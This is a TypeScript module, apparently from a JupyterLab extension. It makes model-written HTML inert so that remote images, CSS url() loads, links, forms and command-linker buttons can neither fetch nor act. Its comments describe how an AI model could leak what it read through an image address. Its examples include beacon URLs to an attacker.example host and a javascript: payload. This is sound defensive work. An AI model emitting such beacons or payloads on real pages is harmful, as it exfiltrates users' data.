/**
 * The model's HTML made inert for the panel: nothing in it loads from elsewhere or acts.
 *
 * The panel renders what the model wrote (its answers, its steps' outputs) as untrusted
 * with JupyterLab's rendermime. Its sanitizer stops scripts but keeps what loads on its
 * own: a remote image (`<img src>`, a markdown image), an inline style's `url(...)` (a
 * background, a cursor, a list's marker), a video's poster, an image input's source. An
 * image's address is a beacon: the model can spell into it what it read, and the browser
 * sends it as soon as the answer is shown. It also keeps command-linker buttons, which run
 * a JupyterLab command when clicked.
 *
 * So, as the server does for `%%ask` and the audit notebook (`jupyter_analyst/untrusted.py`):
 *
 * - an image is shown only when embedded (`data:image/png;base64,...`); any other is
 *   written as text naming its address, `[image: alt, address]`, neither loaded nor a link;
 * - a link keeps its address only for http(s) and mailto, opened in a new tab without
 *   opener or referrer, or for a place in the page (`#...`); a relative link (it would lead
 *   into the Jupyter server) or a `javascript:` one is left as its text;
 * - nothing else fetches: no `<style>`, `<link>`, frame, object, `<base>`, video or audio;
 *   no source, poster or background attribute; no style with a function that can load
 *   (`url()`, `image-set()`, ...: only those that compute colours, sizes and shapes stay);
 *   no SVG reference outside the page; no SVG animation (it could set an address later);
 * - nothing acts: no event handler, command linker, form or popover invoker.
 *
 * The HTML is taken apart in a document of its own, which has no browsing context: nothing
 * in it loads or runs while it is worked on.
 */

const SVG_NS = 'http://www.w3.org/2000/svg';
const XLINK_NS = 'http://www.w3.org/1999/xlink';

/** Where a link may lead. A relative link is dropped: it would lead to the Jupyter server. */
export const LINK_SCHEMES: ReadonlySet<string> = new Set(['http:', 'https:', 'mailto:']);

/**
 * The images shown: embedded ones (a chart an output carries). The server's types (PNG,
 * JPEG, GIF) and the other raster types JupyterLab draws from an output's data.
 */
const EMBEDDED_IMAGE = /^data:image\/(?:png|jpeg|gif|webp|bmp);base64,[A-Za-z0-9+/=\s]*$/i;

/**
 * Elements dropped with all they hold: what loads, runs or styles the page; what holds raw
 * text, which another parse could read as markup; SVG animations, which can change an
 * address after this check; a media element's sources. (Local names, lower case.)
 */
const DROPPED = new Set([
  'script',
  'style',
  'link',
  'meta',
  'base',
  'iframe',
  'frame',
  'frameset',
  'object',
  'embed',
  'applet',
  'portal',
  'fencedframe',
  'template',
  'noscript',
  'noembed',
  'noframes',
  'xmp',
  'plaintext',
  'animate',
  'animatemotion',
  'animatetransform',
  'set',
  'discard',
  'source',
  'track'
]);

/**
 * Elements replaced by what they hold: a form (a click on a button would send it), a video
 * or an audio player (with no source left, an empty box).
 */
const UNWRAPPED = new Set(['form', 'video', 'audio']);

/** Attributes that make the browser fetch (an image's `src` and a link's `href` aside). */
const FETCHING = new Set([
  'src',
  'srcset',
  'imagesrcset',
  'poster',
  'background',
  'lowsrc',
  'dynsrc',
  'longdesc',
  'action',
  'formaction',
  'data',
  'codebase',
  'classid',
  'archive',
  'manifest',
  'profile',
  'ping',
  'attributionsrc',
  'icon'
]);

/**
 * Attributes that act when clicked: a button's form elsewhere in JupyterLab, a popover or
 * dialog of JupyterLab's it opens, a download (event handlers and command-linker
 * attributes are matched by their prefix).
 */
const ACTING = new Set([
  'download',
  'form',
  'formmethod',
  'formtarget',
  'formenctype',
  'formnovalidate',
  'popovertarget',
  'popovertargetaction',
  'commandfor',
  'command'
]);

/**
 * CSS functions that load nothing: colours, arithmetic, gradients, transforms, filters
 * and shapes. Any other (`url`, `image-set`, `image`, `cross-fade`, `element`, `paint`,
 * `src`, `attr`, and whatever comes next) makes its style dropped.
 */
const CSS_FUNCTIONS = new Set([
  'rgb',
  'rgba',
  'hsl',
  'hsla',
  'hwb',
  'lab',
  'lch',
  'oklab',
  'oklch',
  'color',
  'color-mix',
  'light-dark',
  'calc',
  'min',
  'max',
  'clamp',
  'var',
  'linear-gradient',
  'radial-gradient',
  'conic-gradient',
  'repeating-linear-gradient',
  'repeating-radial-gradient',
  'repeating-conic-gradient',
  'translate',
  'translatex',
  'translatey',
  'translatez',
  'translate3d',
  'rotate',
  'rotatex',
  'rotatey',
  'rotatez',
  'rotate3d',
  'scale',
  'scalex',
  'scaley',
  'scalez',
  'scale3d',
  'skew',
  'skewx',
  'skewy',
  'matrix',
  'matrix3d',
  'perspective',
  'cubic-bezier',
  'steps',
  'minmax',
  'repeat',
  'fit-content',
  'blur',
  'brightness',
  'contrast',
  'drop-shadow',
  'grayscale',
  'hue-rotate',
  'invert',
  'opacity',
  'saturate',
  'sepia',
  'inset',
  'circle',
  'ellipse',
  'polygon',
  'counter',
  'counters'
]);

/** A reference to a place in the same SVG (`url(#gradient)`): it loads nothing. */
const LOCAL_REFERENCE = /url\(\s*(["']?)#[^"'()\\\s]*\1\s*\)/g;
/** A CSS function's name and its opening bracket. */
const CSS_FUNCTION = /([-_a-z0-9\u0080-\uffff]*)\(/g;

/**
 * Whether a style (an attribute's CSS) loads nothing: no function but those of
 * {@link CSS_FUNCTIONS} (in SVG, also `url(#...)`), and no escape or comment, which are
 * how a function's name is hidden (`u\72l(` is `url(`). Over-cautious on purpose: a
 * function's name inside a string counts too.
 *
 * @example inertCss('color: red; background: linear-gradient(red, blue)') === true
 * @example inertCss('background: URL(https://attacker.example/?d=1)') === false
 */
export function inertCss(value: string, svg = false): boolean {
  if (value.includes('\\') || value.includes('/*')) {
    return false;
  }
  const text = (svg ? value.replace(LOCAL_REFERENCE, '') : value).toLowerCase();
  const names = text.match(CSS_FUNCTION) ?? [];
  return names.every(call => call === '(' || CSS_FUNCTIONS.has(call.slice(0, -1)));
}

/**
 * The address a link keeps: an absolute http(s) or mailto URL, written as the browser
 * reads it (so `http:files/x`, which it would read as relative, is made absolute), or a
 * place in the page (`#...`); null for any other.
 *
 * @example linkAddress('https://example.org/a b') === 'https://example.org/a%20b'
 * @example linkAddress('java\nscript:alert(1)') === null
 * @example linkAddress('files/secret.csv') === null
 */
export function linkAddress(value: string): string | null {
  const address = value.trim();
  if (address.startsWith('#')) {
    return address;
  }
  try {
    const url = new URL(address);
    return LINK_SCHEMES.has(url.protocol) ? url.href : null;
  } catch {
    return null; // relative
  }
}

/** Whether an image's address is an embedded image (shown as it is). */
export function embeddedImage(address: string): boolean {
  return EMBEDDED_IMAGE.test(address.trim());
}

/**
 * The text an image not shown is replaced by, worded as the server words it: its alt text
 * and its address (a `data:` address by its type only: its bytes name nothing).
 *
 * @example heldImageText('chart', 'http://attacker.example/c.png?q=1') === '[image: chart, http://attacker.example/c.png?q=1]'
 * @example heldImageText('', 'x.png') === '[image, x.png]'
 */
export function heldImageText(alt: string, address: string): string {
  const shown = /^\s*data:/i.test(address)
    ? `${/^\s*(data:[^,;]*)/i.exec(address)?.[1] ?? 'data:'}…`
    : address;
  return `[image${alt ? `: ${alt}` : ''}, ${shown}]`;
}

/** One pass over a tree, counting what it changed. */
class InertPass {
  changed = 0;
  /** Texts naming the images of an SVG, written after it once the tree is walked. */
  private readonly _svgNotes: [Element, string][] = [];

  constructor(private readonly _root: Element) {}

  run(): number {
    for (const element of Array.from(this._root.querySelectorAll('*'))) {
      if (this._root.contains(element)) {
        this._element(element);
      }
    }
    for (const [svg, note] of this._svgNotes) {
      svg.after(svg.ownerDocument.createTextNode(` ${note}`));
    }
    return this.changed;
  }

  private _element(element: Element): void {
    const name = element.localName.toLowerCase();
    const svg = element.namespaceURI === SVG_NS;
    if (DROPPED.has(name)) {
      this._remove(element);
      return;
    }
    if (UNWRAPPED.has(name)) {
      element.replaceWith(...Array.from(element.childNodes));
      this.changed++;
      return;
    }
    const image = svg ? name === 'image' || name === 'feimage' : name === 'img';
    if (image && !(svg ? this._svgImage(element) : this._image(element))) {
      return;
    }
    const link = name === 'a' || (!svg && name === 'area');
    for (const attribute of Array.from(element.attributes)) {
      if (!this._keep(element, attribute, { image, link, svg })) {
        element.removeAttributeNode(attribute);
        this.changed++;
      }
    }
    const href = link
      ? (element.getAttribute('href') ?? element.getAttributeNS(XLINK_NS, 'href'))
      : null;
    if (href !== null && !href.startsWith('#')) {
      // A link that leaves the page: a new tab, without opener or referrer.
      this._set(element, 'target', '_blank');
      this._set(element, 'rel', 'noopener noreferrer');
    }
  }

  /** An `<img>`: kept when embedded (its other sources dropped), else replaced by text. */
  private _image(image: Element): boolean {
    const src = image.getAttribute('src');
    if (src !== null && embeddedImage(src)) {
      return true;
    }
    const address = src ?? image.getAttribute('srcset');
    if (address === null) {
      return true; // no source: nothing loads
    }
    image.replaceWith(
      image.ownerDocument.createTextNode(heldImageText(image.getAttribute('alt') ?? '', address))
    );
    this.changed++;
    return false;
  }

  /**
   * An SVG `<image>` or `<feImage>`: kept when embedded or a place in the page, else
   * removed and named in text after its outermost SVG (text inside one is not shown).
   */
  private _svgImage(image: Element): boolean {
    const address = image.getAttribute('href') ?? image.getAttributeNS(XLINK_NS, 'href');
    if (address === null || address.trim().startsWith('#') || embeddedImage(address)) {
      return true;
    }
    let svg: Element | null = null;
    for (
      let parent = image.parentElement;
      parent !== null && parent !== this._root;
      parent = parent.parentElement
    ) {
      if (parent.namespaceURI === SVG_NS && parent.localName === 'svg') {
        svg = parent;
      }
    }
    const note = heldImageText('', address);
    if (svg === null) {
      image.replaceWith(image.ownerDocument.createTextNode(note));
      this.changed++;
    } else {
      this._remove(image);
      this._svgNotes.push([svg, note]);
    }
    return false;
  }

  /** Whether an attribute stays (an address it keeps is written as the browser reads it). */
  private _keep(
    element: Element,
    attribute: Attr,
    is: { image: boolean; link: boolean; svg: boolean }
  ): boolean {
    const name = attribute.localName.toLowerCase();
    const value = attribute.value;
    if (name.startsWith('on') || name.startsWith('data-commandlinker') || ACTING.has(name)) {
      return false;
    }
    if (FETCHING.has(name)) {
      return is.image && !is.svg && name === 'src'; // an embedded image's (see _image)
    }
    if (name === 'href') {
      if (is.image && is.svg && embeddedImage(value)) {
        return true;
      }
      // A link leads where it says; any other reference only to a place in the page.
      const address = linkAddress(value);
      if (address === null || !(is.link || address.startsWith('#'))) {
        return false;
      }
      if (address !== value) {
        element.setAttributeNS(attribute.namespaceURI, attribute.name, address);
        this.changed++;
      }
      return true;
    }
    if (name === 'style' || is.svg) {
      // SVG's presentation attributes (fill, filter, mask, cursor, ...) are CSS.
      return inertCss(value, is.svg);
    }
    return true;
  }

  private _set(element: Element, name: string, value: string): void {
    if (element.getAttribute(name) !== value) {
      element.setAttribute(name, value);
      this.changed++;
    }
  }

  private _remove(element: Element): void {
    element.remove();
    this.changed++;
  }
}

/**
 * Make a tree inert in place (see the module's description); the number of changes.
 * On a live page, run it on what rendermime built after the sanitizer ran (links made
 * from plain text, math), where nothing remote is expected.
 */
export function makeInert(root: Element): number {
  return new InertPass(root).run();
}

/** Passes over HTML before it is shown as its text instead (see {@link inertHtml}). */
const MAX_PASSES = 4;

/**
 * HTML made inert (see the module's description), parsed in a document without a browsing
 * context. It is parsed again until a parse of the result needs no change: what the
 * browser builds from it is then what was checked, even for markup that parses differently
 * the second time. Markup that never settles is shown as its text.
 *
 * @example inertHtml('<p>North <img src="http://attacker.example/?d=1204" alt="x"></p>') === '<p>North [image: x, http://attacker.example/?d=1204]</p>'
 */
export function inertHtml(html: string): string {
  const body = document.implementation.createHTMLDocument('').body;
  let out = html;
  for (let pass = 0; pass < MAX_PASSES; pass++) {
    body.innerHTML = out;
    if (makeInert(body) === 0) {
      return out;
    }
    out = body.innerHTML;
  }
  body.textContent = body.textContent ?? '';
  return body.innerHTML;
}
